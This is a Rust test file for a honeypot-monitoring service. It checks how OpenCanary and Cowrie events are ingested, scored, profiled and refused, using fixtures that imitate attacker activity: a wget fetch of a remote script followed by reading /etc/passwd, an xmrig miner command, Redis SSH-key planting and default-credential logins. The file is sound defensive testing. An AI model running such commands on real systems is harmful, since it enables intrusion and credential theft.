//! The honeypots people already run, through the real router: OpenCanary's webhook logger (every
//! wrapping it can send, the field variants of its modules) and Cowrie's Splunk HEC output (one
//! entry or several concatenated, every event id it writes), ingested, scored, profiled and
//! alerted on, and refused as their clients expect.

use chrono::Utc;
use rampart_core::OrgId;
use rampart_core::watch::{Event, EventDetail};
use rampart_store::{EventFilter, Seek};
use rstest::rstest;
use serde_json::{Value, json};

use crate::helpers::{Backend, TestApp, create_node, json_of, problem};

const OPENCANARY: &str = "/api/v1/ingest/opencanary";
const HEC: &str = "/services/collector/event";

/// OpenCanary's time: UTC, a space between date and time, microseconds.
fn canary_now() -> String {
    Utc::now().format("%Y-%m-%d %H:%M:%S%.6f").to_string()
}

/// An OpenCanary event as `LoggerBase.sanitizeLog` completes it.
fn canary(logtype: u32, src_host: &str, src_port: Value, dst_port: Value, logdata: Value) -> Value {
    let now = canary_now();
    json!({
        "dst_host": "10.0.0.5", "dst_port": dst_port, "local_time": now, "local_time_adjusted": now,
        "logdata": logdata, "logtype": logtype, "node_id": "opencanary-1", "src_host": src_host,
        "src_port": src_port, "utc_time": now
    })
}

/// How the webhook posts a line: its default form, `{"message": …}` as JSON, the event itself,
/// `{"message": {…}}`, the line as a JSON string, a formatter's prefix before the line, or the
/// line in a field of the admin's own `data` (the example of OpenCanary's documentation).
#[derive(Clone, Copy, Debug)]
enum Wrapping {
    Form,
    Message,
    Raw,
    MessageObject,
    JsonString,
    Formatted,
    Nested,
}

async fn post_canary(app: &TestApp, key: &str, event: &Value, wrapping: Wrapping) -> reqwest::Response {
    let line = event.to_string();
    let request = app.client().post(app.url(OPENCANARY)).header("X-Node-Key", key);
    let request = match wrapping {
        Wrapping::Form => request.form(&[("message", line.as_str())]),
        Wrapping::Message => request.json(&json!({ "message": line })),
        Wrapping::Raw => request.json(event),
        Wrapping::MessageObject => request.json(&json!({ "message": event })),
        Wrapping::JsonString => request.json(&Value::String(line)),
        Wrapping::Formatted => request.json(&json!({ "message": format!("opencanary[812]: {line}") })),
        Wrapping::Nested => request.json(&json!({ "title": "OpenCanary Alert", "data": { "alert": line } })),
    };
    request.send().await.expect("request sent")
}

/// Every stored event of the organisation, page by page.
async fn events_of(app: &TestApp, org: uuid::Uuid) -> Vec<Event> {
    let mut all: Vec<Event> = Vec::new();
    loop {
        let seek = Seek { from: all.last().map(|event| event.id), limit: 500 };
        let page =
            app.store.watch().events(OrgId::from_uuid(org), &EventFilter::default(), seek).await.expect("events");
        let done = page.len() < 500;
        all.extend(page);
        if done {
            return all;
        }
    }
}

/// The honeypot detail of a stored event.
#[derive(Debug)]
struct Stored {
    service: String,
    activity: String,
    payload: String,
    usernames: Vec<String>,
    passwords: Vec<String>,
    source_port: Option<u16>,
    destination_port: Option<u16>,
}

/// The honeypot detail of the stored event from `ip`.
fn detail_from(events: &[Event], ip: &str) -> Stored {
    let event = events
        .iter()
        .find(|event| event.event.source_ip.map(|source| source.to_string()).as_deref() == Some(ip))
        .unwrap_or_else(|| panic!("an event from {ip}"));
    match &event.event.detail {
        EventDetail::Honeypot { service, activity, payload, usernames, passwords, source_port, destination_port } => {
            Stored {
                service: service.clone(),
                activity: activity.clone(),
                payload: payload.clone(),
                usernames: usernames.clone(),
                passwords: passwords.clone(),
                source_port: *source_port,
                destination_port: *destination_port,
            }
        }
        other => panic!("not a honeypot event: {other:?}"),
    }
}

fn owned(names: &[&str]) -> Vec<String> {
    names.iter().map(|name| (*name).to_owned()).collect()
}

/// An OpenCanary sample: the event, how it is posted, and the service, activity, usernames and
/// passwords it must be stored with.
type CanarySample = (Value, Wrapping, &'static str, &'static str, Vec<&'static str>, Vec<&'static str>);

/// A Cowrie sample: the event, and the service, activity, usernames, passwords and payload it
/// must be stored with.
type CowrieSample = (Value, &'static str, &'static str, Vec<&'static str>, Vec<&'static str>, &'static str);

#[rstest]
#[tokio::test]
async fn opencanary_events_of_every_wrapping_and_module_are_ingested_scored_and_profiled(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = TestApp::spawn(backend).await;
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "canary", "honeypot").await;

    // (event, wrapping, service, activity, usernames, passwords)
    let samples: Vec<CanarySample> = vec![
        (
            canary(2000, "203.0.113.1", json!(40001), json!(21), json!({"USERNAME": "ftpuser", "PASSWORD": "ftppass"})),
            Wrapping::Form,
            "ftp",
            "login_attempt",
            vec!["ftpuser"],
            vec!["ftppass"],
        ),
        (
            canary(
                3000,
                "203.0.113.2",
                json!(40002),
                json!(80),
                json!({"HOSTNAME": "nas", "PATH": "/index.html", "SKIN": "nasLogin", "USERAGENT": "curl/8.0"}),
            ),
            Wrapping::Message,
            "http",
            "get",
            vec![],
            vec![],
        ),
        (
            canary(
                3001,
                "203.0.113.3",
                json!(40003),
                json!(80),
                json!({"USERNAME": "admin", "PASSWORD": "admin", "HOSTNAME": "nas", "PATH": "/index.html", "SKIN": "nasLogin", "USERAGENT": "curl/8.0"}),
            ),
            Wrapping::Raw,
            "http",
            "login_attempt",
            vec!["admin"],
            vec!["admin"],
        ),
        (
            canary(4000, "203.0.113.4", json!(40004), json!(22), json!({"SESSION": "3"})),
            Wrapping::MessageObject,
            "ssh",
            "new_connection",
            vec![],
            vec![],
        ),
        (
            canary(
                4002,
                "203.0.113.5",
                json!(40005),
                json!(22),
                json!({"USERNAME": "root", "PASSWORD": "123456", "LOCALVERSION": "SSH-2.0-OpenSSH_5.1p1 Debian-4", "REMOTEVERSION": "SSH-2.0-libssh2_1.4.3"}),
            ),
            Wrapping::JsonString,
            "ssh",
            "login_attempt",
            vec!["root"],
            vec!["123456"],
        ),
        (
            canary(
                5000,
                "203.0.113.6",
                json!("-1"),
                json!(445),
                json!({"USER": "bob", "FILENAME": "secret.docx", "SHARENAME": "Backups", "AUDITACTION": "pread", "STATUS": "ok"}),
            ),
            Wrapping::Raw,
            "smb",
            "file_open",
            vec!["bob"],
            vec![],
        ),
        (
            canary(
                5001,
                "203.0.113.7",
                json!("51000"),
                json!("23"),
                json!({"ID": "54321", "SYN": "", "WINDOW": "1024"}),
            ),
            Wrapping::Form,
            "portscan",
            "syn_scan",
            vec![],
            vec![],
        ),
        (
            canary(6001, "203.0.113.8", json!(40008), json!(23), json!({"USERNAME": "admin", "PASSWORD": "1234"})),
            Wrapping::Formatted,
            "telnet",
            "login_attempt",
            vec!["admin"],
            vec!["1234"],
        ),
        (
            canary(8001, "203.0.113.9", json!(40009), json!(3306), json!({"USERNAME": "root", "PASSWORD": "toor"})),
            Wrapping::Message,
            "mysql",
            "login_attempt",
            vec!["root"],
            vec!["toor"],
        ),
        (
            canary(
                9001,
                "203.0.113.10",
                json!(40010),
                json!(1433),
                json!({"USERNAME": "sa", "PASSWORD": "sa", "AppName": "sqlcmd"}),
            ),
            Wrapping::Raw,
            "mssql",
            "login_attempt",
            vec!["sa"],
            vec!["sa"],
        ),
        (
            canary(
                12001,
                "203.0.113.11",
                json!(40011),
                json!(5900),
                json!({"VNC Password": "password", "VNC Server Challenge": "00", "VNC Client Response": "11"}),
            ),
            Wrapping::Raw,
            "vnc",
            "login_attempt",
            vec![],
            vec!["password"],
        ),
        (
            canary(
                13001,
                "203.0.113.12",
                json!(40012),
                json!(161),
                json!({"REQUESTS": ["1.3.6.1.2.1.1.1.0"], "COMMUNITY_STRING": "public"}),
            ),
            Wrapping::Nested,
            "snmp",
            "command",
            vec![],
            vec![],
        ),
        (
            canary(14001, "203.0.113.13", json!(40013), json!(3389), json!({"USERNAME": "administrator"})),
            Wrapping::Form,
            "rdp",
            "login_attempt",
            vec!["administrator"],
            vec![],
        ),
        (
            canary(
                17001,
                "203.0.113.14",
                json!(40014),
                json!(6379),
                json!({"CMD": "CONFIG", "ARGS": "SET dir /root/.ssh authorized_keys"}),
            ),
            Wrapping::Raw,
            "redis",
            "command",
            vec![],
            vec![],
        ),
        (
            canary(99003, "203.0.113.15", json!(-1), json!(-1), json!({"msg": "custom"})),
            Wrapping::Raw,
            "opencanary",
            "user_3",
            vec![],
            vec![],
        ),
        (
            canary(424_242, "203.0.113.16", json!(40016), json!(9999), json!({})),
            Wrapping::Raw,
            "opencanary",
            "logtype_424242",
            vec![],
            vec![],
        ),
    ];
    for (event, wrapping, ..) in &samples {
        let response = post_canary(&app, &key, event, *wrapping).await;
        assert_eq!(response.status(), 200, "{wrapping:?} {event}");
        let receipt = json_of(response).await;
        assert_eq!(receipt["accepted"].as_array().map(Vec::len), Some(1), "{receipt}");
        assert!(receipt["accepted"][0]["score"].as_f64().is_some_and(|score| score > 0.0), "{receipt}");
    }

    let events = events_of(&app, ada.org).await;
    assert_eq!(events.len(), samples.len());
    for (event, _, service, activity, usernames, passwords) in &samples {
        let ip = event["src_host"].as_str().expect("src_host");
        let stored = detail_from(&events, ip);
        assert_eq!((stored.service.as_str(), stored.activity.as_str()), (*service, *activity), "{ip}");
        assert_eq!((stored.usernames, stored.passwords), (owned(usernames), owned(passwords)), "{ip}");
    }
    // Ports written as text, `-1` for none; the logdata kept as the payload.
    let smb = detail_from(&events, "203.0.113.6");
    assert_eq!((smb.source_port, smb.destination_port), (None, Some(445)));
    assert!(smb.payload.contains("secret.docx"), "{}", smb.payload);
    let scan = detail_from(&events, "203.0.113.7");
    assert_eq!((scan.source_port, scan.destination_port), (Some(51000), Some(23)));

    // Profiled, with the usernames tried; the Redis module's SSH-key planting raised an alert.
    let profile = json_of(app.call("GET", "/api/v1/attackers/203.0.113.5", Some(&ada.access), None).await).await;
    assert_eq!(profile["services"][0]["service"], "ssh", "{profile}");
    assert_eq!(profile["top_usernames"][0]["username"], "root", "{profile}");
    let alerts = json_of(app.call("GET", "/api/v1/alerts", Some(&ada.access), None).await).await;
    let sources: Vec<&str> =
        alerts["items"].as_array().expect("items").iter().filter_map(|alert| alert["source_ip"].as_str()).collect();
    assert!(sources.contains(&"203.0.113.14"), "{alerts}");

    // OpenCanary's own messages carry no visitor: answered, nothing stored.
    let boot = canary(1001, "", json!(-1), json!(-1), json!({"msg": "Canary running!!!"}));
    let receipt = json_of(post_canary(&app, &key, &boot, Wrapping::Form).await).await;
    assert_eq!(receipt, json!({"accepted": [], "rejected": []}));
    assert_eq!(events_of(&app, ada.org).await.len(), samples.len());
}

#[rstest]
#[tokio::test]
async fn opencanary_bodies_that_are_no_event_are_refused_by_field(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = TestApp::spawn_with(crate::helpers::TestDatabase::create(backend).await, |config| {
        config.http.ingest_body_limit = 64 * 1024;
    })
    .await;
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "canary", "honeypot").await;
    let raw = |body: &'static str, content_type: &'static str| {
        app.client()
            .post(app.url(OPENCANARY))
            .header("X-Node-Key", key.as_str())
            .header("content-type", content_type)
            .body(body)
            .send()
    };

    problem(raw("{\"src_host\": ", "application/json").await.expect("sent"), 400).await;
    let refused = problem(raw("text=1", "application/x-www-form-urlencoded").await.expect("sent"), 422).await;
    assert_eq!(refused["errors"][0]["field"], "message", "{refused}");
    let refused = problem(raw(r#"{"message": "no event"}"#, "application/json").await.expect("sent"), 422).await;
    assert_eq!(refused["errors"][0]["field"], "message", "{refused}");
    let refused =
        problem(raw(r#"{"src_host": "203.0.113.1", "dst_port": 70000}"#, "application/json").await.expect("sent"), 422)
            .await;
    assert_eq!(refused["errors"][0]["field"], "dst_port", "{refused}");
    let refused = problem(
        raw(r#"{"src_host": "not an address", "logtype": 4002}"#, "application/json").await.expect("sent"),
        422,
    )
    .await;
    assert_eq!(refused["errors"][0]["field"], "source_ip", "{refused}");

    // Keys are checked as on every sensor route; too large a body is refused.
    let event = canary(4002, "203.0.113.1", json!(1), json!(22), json!({}));
    problem(post_canary(&app, "nk_nothing", &event, Wrapping::Form).await, 401).await;
    let anonymous = app.client().post(app.url(OPENCANARY)).json(&event).send().await.expect("sent");
    problem(anonymous, 401).await;
    let huge = canary(3000, "203.0.113.1", json!(1), json!(80), json!({"PATH": "a".repeat(100_000)}));
    problem(post_canary(&app, &key, &huge, Wrapping::Raw).await, 413).await;
    assert!(events_of(&app, ada.org).await.is_empty());
}

/// An HEC entry as Cowrie's Splunk output writes it.
fn entry(event: &Value) -> String {
    json!({"event": event, "sourcetype": "cowrie", "host": "cowrie-1", "index": "main"}).to_string()
}

fn cowrie(eventid: &str, ip: &str, fields: Value) -> Value {
    let mut event = json!({
        "eventid": eventid, "src_ip": ip, "src_port": 51234, "dst_ip": "10.0.0.5", "dst_port": 2222,
        "session": "a1b2c3d4e5f6", "protocol": "ssh", "sensor": "cowrie-1", "message": format!("{eventid} happened"),
        "timestamp": Utc::now().to_rfc3339_opts(chrono::SecondsFormat::Micros, true)
    });
    for (name, value) in fields.as_object().expect("an object") {
        event[name] = value.clone();
    }
    event
}

async fn post_hec(
    app: &TestApp,
    path: &str,
    authorization: Option<&str>,
    body: impl Into<reqwest::Body>,
) -> reqwest::Response {
    let mut request = app.client().post(app.url(path)).header("content-type", "application/json").body(body);
    if let Some(authorization) = authorization {
        request = request.header("Authorization", authorization);
    }
    request.send().await.expect("request sent")
}

async fn hec_answer(response: reqwest::Response, status: u16) -> Value {
    assert_eq!(response.status().as_u16(), status);
    assert_eq!(response.headers()["content-type"], "application/json");
    json_of(response).await
}

#[rstest]
#[tokio::test]
async fn cowrie_entries_single_and_concatenated_are_ingested_scored_and_answered_as_hec_does(
    #[values(Backend::Sqlite, Backend::Postgres)] backend: Backend,
) {
    let app = TestApp::spawn(backend).await;
    let ada = app.register("ada").await;
    let (_, key) = create_node(&app, &ada, "cowrie", "honeypot").await;
    let splunk = format!("Splunk {key}");

    // (event, service, activity, usernames, passwords, payload)
    let samples: Vec<CowrieSample> = vec![
        (
            cowrie("cowrie.session.connect", "198.51.100.1", json!({})),
            "ssh",
            "connection",
            vec![],
            vec![],
            "cowrie.session.connect happened",
        ),
        (
            cowrie("cowrie.client.version", "198.51.100.2", json!({"version": "SSH-2.0-Go"})),
            "ssh",
            "client_version",
            vec![],
            vec![],
            "SSH-2.0-Go",
        ),
        (
            cowrie(
                "cowrie.client.kex",
                "198.51.100.3",
                json!({"hassh": "ec7378c1", "hasshAlgorithms": "x;y", "kexAlgs": ["curve25519-sha256"], "keyAlgs": ["ssh-ed25519"], "encCS": ["aes128-ctr"], "macCS": ["hmac-sha2-256"], "compCS": ["none"], "langCS": [""]}),
            ),
            "ssh",
            "client_kex",
            vec![],
            vec![],
            "hassh: ec7378c1\nkexAlgs: [\"curve25519-sha256\"]",
        ),
        (
            cowrie("cowrie.login.failed", "198.51.100.4", json!({"username": "root", "password": "123456"})),
            "ssh",
            "login_attempt",
            vec!["root"],
            vec!["123456"],
            "cowrie.login.failed happened",
        ),
        (
            cowrie(
                "cowrie.login.success",
                "198.51.100.5",
                json!({"username": "admin", "password": "admin", "protocol": "telnet", "dst_port": 2223}),
            ),
            "telnet",
            "login_success",
            vec!["admin"],
            vec!["admin"],
            "cowrie.login.success happened",
        ),
        (
            cowrie(
                "cowrie.command.input",
                "198.51.100.6",
                json!({"input": "cd /tmp; wget http://192.0.2.1/x.sh; cat /etc/passwd"}),
            ),
            "ssh",
            "command",
            vec![],
            vec![],
            "cd /tmp; wget http://192.0.2.1/x.sh; cat /etc/passwd",
        ),
        (
            cowrie("cowrie.command.failed", "198.51.100.7", json!({"input": "xmrig --donate-level 1"})),
            "ssh",
            "command_failed",
            vec![],
            vec![],
            "xmrig --donate-level 1",
        ),
        (
            cowrie(
                "cowrie.session.file_download",
                "198.51.100.8",
                json!({"url": "http://192.0.2.1/x.sh", "shasum": "9f86d081", "outfile": "var/lib/cowrie/downloads/9f86d081", "destfile": "x.sh"}),
            ),
            "ssh",
            "file_download",
            vec![],
            vec![],
            "url: http://192.0.2.1/x.sh\nshasum: 9f86d081\noutfile: var/lib/cowrie/downloads/9f86d081",
        ),
        (
            cowrie(
                "cowrie.session.file_upload",
                "198.51.100.9",
                json!({"filename": "bot.bin", "shasum": "2c26b46b", "outfile": "var/lib/cowrie/downloads/2c26b46b"}),
            ),
            "ssh",
            "file_upload",
            vec![],
            vec![],
            "filename: bot.bin\nshasum: 2c26b46b\noutfile: var/lib/cowrie/downloads/2c26b46b",
        ),
        (
            cowrie("cowrie.direct-tcpip.request", "198.51.100.10", json!({"dst_ip": "192.0.2.80", "dst_port": 80})),
            "ssh",
            "tcpip_forward_request",
            vec![],
            vec![],
            "destination: 192.0.2.80:80",
        ),
        (
            cowrie("cowrie.session.closed", "198.51.100.11", json!({"duration": 42.5})),
            "ssh",
            "session_closed",
            vec![],
            vec![],
            "duration: 42.5",
        ),
    ];

    // One entry per request, as Cowrie sends them, on each of HEC's paths.
    for (index, (event, ..)) in samples.iter().take(3).enumerate() {
        let path = ["/services/collector/event", "/services/collector/event/1.0", "/services/collector"][index];
        let answer = hec_answer(post_hec(&app, path, Some(&splunk), entry(event)).await, 200).await;
        assert_eq!(answer, json!({"text": "Success", "code": 0}));
    }
    // The rest concatenated in one body, with and without whitespace between them.
    let rest: Vec<String> = samples.iter().skip(3).map(|(event, ..)| entry(event)).collect();
    let body = format!("{}\n{} {}", rest[..2].concat(), rest[2], rest[3..].join("\r\n"));
    let answer = hec_answer(post_hec(&app, HEC, Some(&splunk), body).await, 200).await;
    assert_eq!(answer, json!({"text": "Success", "code": 0}));

    let events = events_of(&app, ada.org).await;
    assert_eq!(events.len(), samples.len());
    for (event, service, activity, usernames, passwords, payload) in &samples {
        let ip = event["src_ip"].as_str().expect("src_ip");
        let stored = detail_from(&events, ip);
        let found = (stored.service.as_str(), stored.activity.as_str(), stored.payload.as_str());
        assert_eq!(found, (*service, *activity, *payload), "{ip}");
        assert_eq!((stored.usernames, stored.passwords), (owned(usernames), owned(passwords)), "{ip}");
    }
    let telnet = detail_from(&events, "198.51.100.5");
    assert_eq!((telnet.source_port, telnet.destination_port), (Some(51234), Some(2223)));
    assert_eq!(
        detail_from(&events, "198.51.100.10").destination_port,
        None,
        "a forwarding target is not the honeypot's port"
    );

    // The downloader's commands are scored as such and alerted on; the login profiled.
    let alerts = json_of(app.call("GET", "/api/v1/alerts", Some(&ada.access), None).await).await;
    let sources: Vec<&str> =
        alerts["items"].as_array().expect("items").iter().filter_map(|alert| alert["source_ip"].as_str()).collect();
    assert!(sources.contains(&"198.51.100.6"), "{alerts}");
    let profile = json_of(app.call("GET", "/api/v1/attackers/198.51.100.4", Some(&ada.access), None).await).await;
    assert_eq!(profile["top_usernames"][0]["username"], "root", "{profile}");

    // Cowrie's own operational events have no visitor: taken, not stored.
    let operational = r#"{"event": {"eventid": "cowrie.abuseipdb.started", "message": "AbuseIPDB plugin starting"}}"#;
    let answer = hec_answer(post_hec(&app, HEC, Some(&splunk), operational).await, 200).await;
    assert_eq!(answer, json!({"text": "Success", "code": 0}));
    assert_eq!(events_of(&app, ada.org).await.len(), samples.len());

    // A bad event among good ones is named by its entry; the good ones are taken.
    let mixed = format!(
        "{operational}{}{}",
        entry(&cowrie("cowrie.session.connect", "198.51.100.20", json!({}))),
        entry(&cowrie("cowrie.session.connect", "bad", json!({})))
    );
    let answer = hec_answer(post_hec(&app, HEC, Some(&splunk), mixed).await, 200).await;
    assert_eq!((answer["code"].as_u64(), answer["rejected"][0]["index"].as_u64()), (Some(0), Some(2)), "{answer}");
    assert_eq!(answer["rejected"][0]["errors"][0]["field"], "source_ip", "{answer}");
    assert_eq!(events_of(&app, ada.org).await.len(), samples.len() + 1);
}

#[rstest]
#[tokio::test]
async fn cowrie_requests_are_refused_with_hec_codes(#[values(Backend::Sqlite, Backend::Postgres)] backend: Backend) {
    let app = TestApp::spawn_with(crate::helpers::TestDatabase::create(backend).await, |config| {
        config.http.ingest_body_limit = 512 * 1024;
    })
    .await;
    let ada = app.register("ada").await;
    let (id, key) = create_node(&app, &ada, "cowrie", "honeypot").await;
    let splunk = format!("Splunk {key}");
    let good = entry(&cowrie("cowrie.session.connect", "198.51.100.1", json!({})));

    let answer = |text: &str, code: u64| json!({"text": text, "code": code});
    assert_eq!(hec_answer(post_hec(&app, HEC, None, good.clone()).await, 401).await, answer("Token is required", 2));
    assert_eq!(
        hec_answer(post_hec(&app, HEC, Some(&format!("Bearer {key}")), good.clone()).await, 401).await,
        answer("Invalid authorization", 3)
    );
    assert_eq!(
        hec_answer(post_hec(&app, HEC, Some("Splunk "), good.clone()).await, 401).await,
        answer("Invalid authorization", 3)
    );
    assert_eq!(
        hec_answer(post_hec(&app, HEC, Some("Splunk nk_nothing"), good.clone()).await, 403).await,
        answer("Invalid token", 4)
    );
    assert_eq!(
        hec_answer(post_hec(&app, HEC, Some("Splunk 11111111-2222-3333-4444-555555555555"), good.clone()).await, 403)
            .await,
        answer("Invalid token", 4)
    );
    // The node key on X-Node-Key is not HEC's way.
    let keyed = app
        .client()
        .post(app.url(HEC))
        .header("X-Node-Key", key.as_str())
        .body(good.clone())
        .send()
        .await
        .expect("sent");
    assert_eq!(hec_answer(keyed, 401).await, answer("Token is required", 2));

    let no_data = hec_answer(post_hec(&app, HEC, Some(&splunk), "  ").await, 400).await;
    assert_eq!(no_data, answer("No data", 5));
    let broken = hec_answer(post_hec(&app, HEC, Some(&splunk), format!("{good}{{\"event\": ")).await, 400).await;
    assert_eq!((broken["code"].as_u64(), broken["invalid-event-number"].as_u64()), (Some(6), Some(1)), "{broken}");
    let array = hec_answer(post_hec(&app, HEC, Some(&splunk), format!("[{good}]")).await, 400).await;
    assert_eq!(array["code"], 6, "{array}");
    let missing = hec_answer(post_hec(&app, HEC, Some(&splunk), r#"{"sourcetype": "cowrie"}"#).await, 400).await;
    assert_eq!(missing["code"], 12, "{missing}");
    let blank = hec_answer(post_hec(&app, HEC, Some(&splunk), r#"{"event": ""}"#).await, 400).await;
    assert_eq!(blank["code"], 13, "{blank}");
    let invalid = hec_answer(
        post_hec(
            &app,
            HEC,
            Some(&splunk),
            entry(&cowrie("cowrie.login.failed", "198.51.100.1", json!({"src_port": "high"}))),
        )
        .await,
        400,
    )
    .await;
    assert_eq!(
        (invalid["code"].as_u64(), invalid["rejected"][0]["errors"][0]["field"].as_str()),
        (Some(6), Some("event.src_port")),
        "{invalid}"
    );

    // 1,000 entries are taken; one more is refused whole, as is too large a body.
    let small = r#"{"event":{"eventid":"cowrie.session.connect","src_ip":"198.51.100.2"}}"#;
    assert_eq!(hec_answer(post_hec(&app, HEC, Some(&splunk), small.repeat(1000)).await, 200).await["code"], 0);
    problem(post_hec(&app, HEC, Some(&splunk), small.repeat(1001)).await, 413).await;
    problem(post_hec(&app, HEC, Some(&splunk), " ".repeat(600 * 1024)).await, 413).await;
    assert_eq!(events_of(&app, ada.org).await.len(), 1000);

    // An inactive node's token is disabled.
    let off = app
        .call("PATCH", &format!("/api/v1/nodes/{id}"), Some(&ada.access), Some(&json!({"status": "inactive"})))
        .await;
    assert_eq!(off.status(), 200);
    assert_eq!(hec_answer(post_hec(&app, HEC, Some(&splunk), good).await, 403).await, answer("Token disabled", 1));
}
